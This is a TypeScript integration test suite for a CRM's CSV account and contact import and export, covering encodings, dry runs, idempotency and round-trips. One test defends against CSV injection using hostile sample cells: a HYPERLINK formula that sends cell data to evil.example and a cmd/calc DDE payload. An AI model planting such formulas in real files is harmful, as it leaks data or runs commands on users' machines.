// CSV import and export of accounts and contacts through the real app and PostgreSQL (issue 11):
// the dry run's line-by-line report and the real import agreeing with it, UTF-8 with and without a
// BOM and GB18030 files, idempotency per file, a file refused as a whole writing nothing, and an
// export that re-imports to the same accounts and contacts.
import { execFile } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import iconv from 'iconv-lite';
import { parse } from 'csv-parse/sync';
import { startTestApp, type TestApp, type TestUser } from '../support/app';

const execFileAsync = promisify(execFile);
let app: TestApp;
beforeAll(async () => {
  app = await startTestApp();
});
afterAll(async () => {
  await app?.stop();
});

async function importFile(user: TestUser, bytes: Buffer | string, dryRun: boolean) {
  const res = await fetch(`${app.baseUrl}/api/accounts/import?dryRun=${dryRun}`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${user.token}`, 'Content-Type': 'text/csv' },
    body: typeof bytes === 'string' ? bytes : new Uint8Array(bytes),
  });
  return { status: res.status, body: (await res.json()) as any };
}
async function exportFile(user: TestUser, query = '') {
  const res = await fetch(`${app.baseUrl}/api/accounts/export.csv${query}`, {
    headers: { Authorization: `Bearer ${user.token}` },
  });
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
  return Buffer.from(await res.arrayBuffer());
}
/** Everything an import may write, as one comparable value. */
async function snapshot() {
  const [accounts, contacts, imports] = await Promise.all([
    app.db.prisma.account.findMany({ orderBy: { id: 'asc' } }),
    app.db.prisma.contact.findMany({ orderBy: { id: 'asc' } }),
    app.db.prisma.accountImport.count(),
  ]);
  return JSON.stringify({ accounts, contacts, imports });
}
const actions = (body: any) =>
  (body.lines as { line: number; action: string; code: string | null }[]).map(
    (l) => `${l.line}:${l.action}${l.code ? `:${l.code}` : ''}`,
  );

describe('import', () => {
  let heldByB1: string;
  let inPool: string;
  const FILE = [
    '客户名称,统一社会信用代码,行业,地区,标签,备注,联系人,联系人电话,联系人角色',
    '导入测试甲科技有限公司,,软件,北京,重点;ERP,,赵一,13800000001,decision_maker',
    '导入测试甲科技股份有限公司,,,,新标签,,钱二,13800000002,', // same account as line 2: merge
    ',,软件,北京,,,,,', // no name
    '导入测试乙有限公司,91350100M000100Y44,,,,,,,', // wrong check character
    '导入测试被报备有限公司,,,,,,,,', // held by repB1
    '导入测试丙有限公司,,,,,"两行的',
    '备注",孙三,,', // a quoted line break: this record starts on line 7
    '导入测试公海客户,,,,,,,,', // already in the pool: a rep claims it first
    '导入测试丁,,,,,,,,,extra', // one column too many
  ].join('\r\n');

  beforeAll(async () => {
    const held = await app.api(app.org.repB1, 'POST', '/api/accounts', { name: '导入测试被报备' });
    heldByB1 = held.body.id;
    await app.db.prisma.account.update({ where: { id: heldByB1 }, data: { ownerId: app.org.repB1.id } });
    inPool = (await app.api(app.org.admin, 'POST', '/api/accounts', { name: '导入测试公海客户' })).body.id;
  });

  it('reports line by line in a dry run and writes nothing', async () => {
    const before = await snapshot();
    const res = await importFile(app.org.repA1, FILE, true);
    expect(res.status).toBe(200);
    expect(actions(res.body)).toEqual([
      '2:create',
      '3:merge',
      '4:refuse:name_missing',
      '5:refuse:credit_code_invalid',
      '6:refuse:held_by_colleague',
      '7:create',
      '9:refuse:in_pool',
      '10:refuse:column_count',
    ]);
    expect(res.body).toMatchObject({
      dryRun: true,
      encoding: 'utf-8',
      summary: { create: 2, merge: 1, refuse: 5 },
    });
    const colleague = res.body.lines.find((l: any) => l.code === 'held_by_colleague');
    expect(colleague).toMatchObject({ holder: 'colleague', accountId: heldByB1 });
    expect(res.body.lines[1]).toMatchObject({ contactAdded: true, accountId: res.body.lines[0].accountId });
    // The report is in the importer's language (repA1 reads English).
    expect(res.body.lines[2].message).toBe('No account name: line skipped.');
    expect(res.body.lines.find((l: any) => l.code === 'in_pool').accountId).toBe(inPool);
    expect(await snapshot()).toBe(before);
  });

  it('writes what the dry run said, and the same file again writes nothing', async () => {
    const dry = await importFile(app.org.repA1, FILE, true);
    const real = await importFile(app.org.repA1, FILE, false);
    expect(real.status).toBe(200);
    expect(actions(real.body)).toEqual(actions(dry.body));
    expect(real.body).toMatchObject({ dryRun: false, alreadyImported: false });
    const jia = await app.db.prisma.account.findUniqueOrThrow({
      where: { normalizedName: '导入测试甲科技' },
      include: { contacts: { orderBy: { name: 'asc' } } },
    });
    expect(jia).toMatchObject({
      name: '导入测试甲科技有限公司',
      ownerId: null,
      industry: '软件',
      region: '北京',
      tags: ['重点', 'ERP', '新标签'],
      createdById: app.org.repA1.id,
    });
    expect(jia.contacts.map((c) => [c.name, c.phone, c.role])).toEqual([
      ['赵一', '13800000001', 'decision_maker'],
      ['钱二', '13800000002', null],
    ]);
    const bing = await app.db.prisma.account.findUniqueOrThrow({ where: { normalizedName: '导入测试丙' } });
    expect(bing.notes).toBe('两行的\n备注');
    const untouched = await app.db.prisma.account.findUniqueOrThrow({ where: { id: heldByB1 } });
    expect(untouched.ownerId).toBe(app.org.repB1.id);

    const after = await snapshot();
    const again = await importFile(app.org.repA1, FILE, false);
    expect(again.body).toMatchObject({ alreadyImported: true, importedAt: real.body.importedAt });
    expect(actions(again.body)).toEqual(actions(real.body));
    expect(await snapshot()).toBe(after);
    // A dry run of it now: the created accounts are in the pool, so a rep is told to claim them.
    expect(actions(await importFile(app.org.repA1, FILE, true).then((r) => r.body)).slice(0, 2)).toEqual([
      '2:refuse:in_pool',
      '3:refuse:in_pool',
    ]);
  });

  it('reads GB18030 (Excel in China) and UTF-8 with a BOM', async () => {
    const text = '客户名称,行业,联系人\r\n导入编码测试广州有限公司,零售,周五\r\n';
    const gb = iconv.encode(text, 'gb18030');
    expect(gb.equals(Buffer.from(text))).toBe(false);
    const fromGb = await importFile(app.org.managerA, gb, false);
    expect(fromGb.body).toMatchObject({ encoding: 'gb18030', summary: { create: 1, refuse: 0 } });
    expect(fromGb.body.lines[0].name).toBe('导入编码测试广州有限公司');
    const row = await app.db.prisma.account.findUniqueOrThrow({
      where: { normalizedName: '导入编码测试广州' },
      include: { contacts: true },
    });
    expect([row.industry, row.contacts[0]?.name]).toEqual(['零售', '周五']);

    const bom = Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from('name,industry\r\n导入编码测试深圳,硬件\r\n'),
    ]);
    const fromBom = await importFile(app.org.managerA, bom, true);
    expect(fromBom.body).toMatchObject({ encoding: 'utf-8', summary: { create: 1, refuse: 0 } });
    // The same text in GB18030 is a different file but the same account: a manager merges it.
    const gbAgain = await importFile(app.org.managerA, iconv.encode(`${text}\r\n`, 'gb18030'), true);
    expect(actions(gbAgain.body)).toEqual(['2:merge']);
  });

  it('refuses a file it cannot read as a whole and writes nothing', async () => {
    const before = await snapshot();
    const cases: [string | Buffer, string][] = [
      ['name,notes\n导入坏文件甲,"没有结束的引号\n导入坏文件乙,x\n', 'csv'],
      ['名称有误,行业\n导入坏文件丙,x\n', 'unknown_column'],
      ['industry\n软件\n', 'no_name_column'],
      ['name,name\na,b\n', 'duplicate_column'],
      [Buffer.from([0xff, 0xfe, 0x6e, 0x00]), 'encoding'],
      ['', 'empty'],
    ];
    for (const [file, reason] of cases) {
      const res = await importFile(app.org.admin, file, false);
      expect({
        reason,
        status: res.status,
        code: res.body.error?.code,
        got: res.body.error?.details?.reason,
      }).toEqual({
        reason,
        status: 400,
        code: 'IMPORT_FILE_INVALID',
        got: reason,
      });
    }
    const json = await fetch(`${app.baseUrl}/api/accounts/import?dryRun=false`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${app.org.admin.token}`, 'Content-Type': 'application/json' },
      body: '{"name":"x"}',
    });
    expect(json.status).toBe(400);
    expect(await snapshot()).toBe(before);
  });
});

describe('import as multipart/form-data (a file field)', () => {
  const form = (parts: Record<string, Blob | string>) => {
    const data = new FormData();
    for (const [name, value] of Object.entries(parts))
      if (typeof value === 'string') data.append(name, value);
      else data.append(name, value, 'accounts.csv');
    return data;
  };
  const postForm = async (user: TestUser, body: FormData | string, dryRun: boolean, type?: string) => {
    const res = await fetch(`${app.baseUrl}/api/accounts/import?dryRun=${dryRun}`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${user.token}`, ...(type ? { 'Content-Type': type } : {}) },
      body,
    });
    return { status: res.status, body: (await res.json()) as any };
  };

  it('answers the same report as the raw body, and writes the same', async () => {
    const text =
      'name,industry,contactName\r\n导入表单测试有限公司,物流,吴六\r\n,,\r\n导入表单测试,物流,郑七\r\n';
    const raw = await importFile(app.org.repA1, text, true);
    const multi = await postForm(
      app.org.repA1,
      form({ note: 'ignored', file: new Blob([text], { type: 'text/csv' }) }),
      true,
    );
    expect(multi.status).toBe(200);
    expect(actions(multi.body)).toEqual(['2:create', '4:merge']);
    // The same bytes reached the import (a dry run's new accounts get fresh ids each time).
    const withoutIds = (body: any) => ({
      ...body,
      lines: body.lines.map(({ accountId: _id, ...line }: any) => line),
    });
    expect(withoutIds(multi.body)).toEqual(withoutIds(raw.body));
    expect(multi.body.fileHash).toBe(raw.body.fileHash);

    const real = await postForm(app.org.repA1, form({ file: new Blob([text]) }), false);
    expect(real.body).toMatchObject({ dryRun: false, summary: { create: 1, merge: 1, refuse: 0 } });
    const row = await app.db.prisma.account.findUniqueOrThrow({
      where: { normalizedName: '导入表单测试' },
      include: { contacts: { orderBy: { name: 'asc' } } },
    });
    expect(row.contacts.map((c) => c.name).sort()).toEqual(['吴六', '郑七'].sort());
  });

  it('takes curl -F file=@accounts.csv with a GB18030 file byte for byte', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'psm-import-'));
    const file = path.join(dir, 'accounts.csv');
    fs.writeFileSync(file, iconv.encode('客户名称,行业\r\n导入表单编码测试杭州有限公司,制造\r\n', 'gb18030'));
    try {
      const { stdout } = await execFileAsync('curl', [
        '-sS',
        '-H',
        `Authorization: Bearer ${app.org.managerA.token}`,
        '-F',
        `file=@${file}`,
        `${app.baseUrl}/api/accounts/import?dryRun=true`,
      ]);
      const body = JSON.parse(stdout);
      expect(body).toMatchObject({ encoding: 'gb18030', summary: { create: 1, merge: 0, refuse: 0 } });
      expect(body.lines[0].name).toBe('导入表单编码测试杭州有限公司');
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it('refuses a form without the file field, a broken form and a file past the limit, writing nothing', async () => {
    const before = await snapshot();
    const missing = await postForm(app.org.admin, form({ other: new Blob(['name\r\nx\r\n']) }), false);
    expect([missing.status, missing.body.error?.code]).toEqual([400, 'INVALID_INPUT']);
    expect(missing.body.error.message).toMatch(/file/);
    const noBoundary = await postForm(app.org.admin, 'name\r\nx\r\n', false, 'multipart/form-data');
    expect([noBoundary.status, noBoundary.body.error?.code]).toEqual([400, 'INVALID_INPUT']);
    const truncated = await postForm(
      app.org.admin,
      '--b\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\nname\r\nx',
      false,
      'multipart/form-data; boundary=b',
    );
    expect([truncated.status, truncated.body.error?.code]).toEqual([400, 'INVALID_INPUT']);
    const big = 'name\r\n' + `${'x'.repeat(99)}\r\n`.repeat(Math.ceil((4 * 1024 * 1024) / 101) + 10);
    const tooLarge = await postForm(app.org.admin, form({ file: new Blob([big]) }), false);
    expect([tooLarge.status, tooLarge.body.error?.code]).toEqual([413, 'PAYLOAD_TOO_LARGE']);
    expect(await snapshot()).toBe(before);
  });
});

describe('export', () => {
  beforeAll(async () => {
    for (const [i, industry] of ['能源', '能源', '医疗'].entries()) {
      await app.api(app.org.admin, 'POST', '/api/accounts', {
        name: `导出测试${i}号有限公司`,
        industry,
        tags: ['出口', `t${i}`],
        notes: i === 0 ? '含,逗号和"引号"\n与换行' : null,
        contacts:
          i === 1
            ? []
            : [
                { name: `联系人${i}`, email: `c${i}@example.com`, stance: 'neutral' },
                { name: `副联系人${i}` },
              ],
      });
    }
  });

  it('exports what the list shows, with the same filters, headers in the caller’s language', async () => {
    const q = `?q=${encodeURIComponent('导出测试')}&industry=${encodeURIComponent('能源')}`;
    const list = await app.api(app.org.repA1, 'GET', `/api/accounts${q}`);
    const bytes = await exportFile(app.org.repA1, q);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(bytes, { bom: true }) as string[][];
    expect(rows[0]!.slice(0, 3)).toEqual(['Account name', 'Unified social credit code', 'Industry']);
    expect([...new Set(rows.slice(1).map((r) => r[0]))]).toEqual(
      list.body.accounts.map((a: { name: string }) => a.name),
    );
    expect(rows).toHaveLength(1 + 2 + 1); // account 0 with two contacts, account 1 without
    const zh = parse(await exportFile(app.org.repA1, `${q}&locale=zh-CN`), { bom: true }) as string[][];
    expect(zh[0]![0]).toBe('客户名称');
    // Held outside the caller's line: not in a rep's export.
    const held = parse(await exportFile(app.org.repA1, `?q=${encodeURIComponent('导入测试被报备')}`), {
      bom: true,
    });
    expect(held).toHaveLength(1);
  });

  it('refuses a filter with a NUL or another control character (400, INVALID_INPUT), in the export and the lists', async () => {
    // Found by the API fuzz test: PostgreSQL refuses a NUL in a text parameter, which was a 500.
    for (const path of ['/api/accounts/export.csv', '/api/accounts', '/api/pool']) {
      for (const query of ['q=%00K', 'industry=a%00', 'region=%07', 'tag=x%00y']) {
        const res = await fetch(`${app.baseUrl}${path}?${query}`, {
          headers: { Authorization: `Bearer ${app.org.repA1.token}` },
        });
        expect([path, query, res.status]).toEqual([path, query, 400]);
        expect(((await res.json()) as { error: { code: string } }).error.code).toBe('INVALID_INPUT');
      }
    }
  });

  it('neutralises cells a spreadsheet would run as formulas (OWASP CSV injection), and re-imports them unchanged', async () => {
    const risky = {
      name: '=HYPERLINK("http://evil.example/?d="&B2,"open")',
      industry: '注入测试',
      region: '+1+1',
      source: '-2+3',
      notes: '@SUM(1+1)*cmd|" /C calc"!A0',
      contacts: [{ name: '注入联系人', title: '=1+2', phone: '+86 138 0000 0001' }],
    };
    const created = await app.api(app.org.admin, 'POST', '/api/accounts', risky);
    expect(created.status).toBe(201);
    const q = `?industry=${encodeURIComponent('注入测试')}`;
    const bytes = await exportFile(app.org.admin, q);
    const rows = parse(bytes, { bom: true }) as string[][];
    expect(rows).toHaveLength(2);
    const cells = rows[1]!;
    expect(cells[0]).toBe(`'${risky.name}`);
    expect(cells).toContain(`'${risky.region}`);
    expect(cells).toContain(`'${risky.source}`);
    expect(cells).toContain(`'${risky.notes}`);
    expect(cells).toContain(`'=1+2`);
    expect(cells).toContain(`'+86 138 0000 0001`);
    expect(cells).toContain('注入测试'); // a plain cell is left as it is
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    // The import takes the quote off: the same file is the same account, and a fresh import stores
    // the original values.
    const again = await importFile(app.org.admin, bytes, true);
    expect(again.body.summary).toEqual({ create: 0, merge: 1, refuse: 0 });
    await app.db.prisma.account.delete({ where: { id: created.body.id } });
    const recreated = await importFile(app.org.admin, bytes, false);
    expect(recreated.body.summary).toEqual({ create: 1, merge: 0, refuse: 0 });
    const row = await app.db.prisma.account.findFirstOrThrow({
      where: { industry: '注入测试' },
      include: { contacts: true },
    });
    expect(row).toMatchObject({
      name: risky.name,
      region: risky.region,
      source: risky.source,
      notes: risky.notes,
    });
    expect(row.contacts.map((c) => [c.title, c.phone])).toEqual([['=1+2', '+86 138 0000 0001']]);
  });

  it('round-trips: the exported file re-imports to the same accounts and contacts', async () => {
    const q = `?q=${encodeURIComponent('导出测试')}`;
    const first = await exportFile(app.org.admin, q);
    const same = await importFile(app.org.admin, first, true);
    expect(same.body.summary).toEqual({ create: 0, merge: 5, refuse: 0 });
    expect(same.body.lines.every((l: any) => !l.contactAdded)).toBe(true);

    const ids = (await app.db.prisma.account.findMany({ where: { name: { startsWith: '导出测试' } } })).map(
      (a) => a.id,
    );
    expect(ids).toHaveLength(3);
    await app.db.prisma.account.deleteMany({ where: { id: { in: ids } } });
    const recreated = await importFile(app.org.admin, first, false);
    expect(recreated.body.summary).toEqual({ create: 3, merge: 2, refuse: 0 });
    const second = await exportFile(app.org.admin, q);
    expect(second.toString('utf8')).toBe(first.toString('utf8'));
  });
});
